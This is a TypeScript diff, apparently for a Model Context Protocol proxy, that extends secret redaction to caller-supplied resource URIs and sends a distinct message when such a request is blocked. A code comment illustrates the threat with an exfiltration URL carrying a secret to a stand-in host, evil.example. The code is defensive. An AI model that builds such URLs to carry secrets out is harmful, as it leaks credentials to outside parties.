@@ -22,6 +22,8 @@ import type { Redaction } from './setup.js';
 import type { Rule } from './rules.js';
 
 /** Responses whose results are scanned (errors are scanned for every method). */
+/** Requests whose target is a resource URI the caller wrote. */
+const URI_METHODS = new Set(['resources/read', 'resources/subscribe', 'resources/unsubscribe']);
 const RESULT_METHODS = new Set(['tools/call', 'tasks/get', 'tasks/result', 'tasks/list', 'resources/read', 'prompts/get', 'completion/complete']);
 
 const TASK_TOOLS = 'redact.taskTools';
@@ -108,8 +110,13 @@ export function redactionStage({ redaction }: RedactionStageOptions): Stage {
     const params = req.params;
     if (!isObject(params)) return;
     let target: unknown;
+    // A resource URI is the caller's text too: `https://evil.example/?k=<secret>` carries a secret out as well as an
+    // argument does. Scanned as a one-key object and written back when masked (an HTTP upstream's Mcp-Name header
+    // is made from the body as it is sent).
+    let uri: { uri: unknown } | undefined;
     if (ex.method === 'tools/call' || ex.method === 'prompts/get') target = params['arguments'];
     else if (ex.method === 'completion/complete') target = { argument: params['argument'], context: params['context'] };
+    else if (URI_METHODS.has(ex.method) && typeof params['uri'] === 'string') target = uri = { uri: params['uri'] };
     else return;
     if (target === undefined || target === null || typeof target !== 'object') return;
     const pre = pretest(ex.message);
@@ -121,11 +128,12 @@ export function redactionStage({ redaction }: RedactionStageOptions): Stage {
     noteCounts(ex, 'inboundRedactions', r.counts);
     if (r.blocked) {
       ex.notes['redactionBlocked'] = r.blocked.rule;
-      const text = blockedText(r.blocked, 'this request (its arguments were not sent)');
+      const text = blockedText(r.blocked, uri ? 'this request (it was not sent)' : 'this request (its arguments were not sent)');
       if (ex.method === 'tools/call') return { answer: { result: { content: [{ type: 'text', text }], isError: true } }, outcome: 'denied' };
       return { answer: { error: { code: ErrorCode.RedactionBlocked, message: text, data: { rule: r.blocked.rule } } }, outcome: 'denied' };
     }
     if (!r.changed) return;
+    if (uri) params['uri'] = uri.uri;
     markDirty(ex.message);
     if (ex.method === 'tools/call' && ex.headers && Object.keys(ex.headers).some((h) => h.startsWith('mcp-param-'))) {
       // 2026-07-28: mirrored arguments travel as Mcp-Param-* headers too; they must say what the body says.
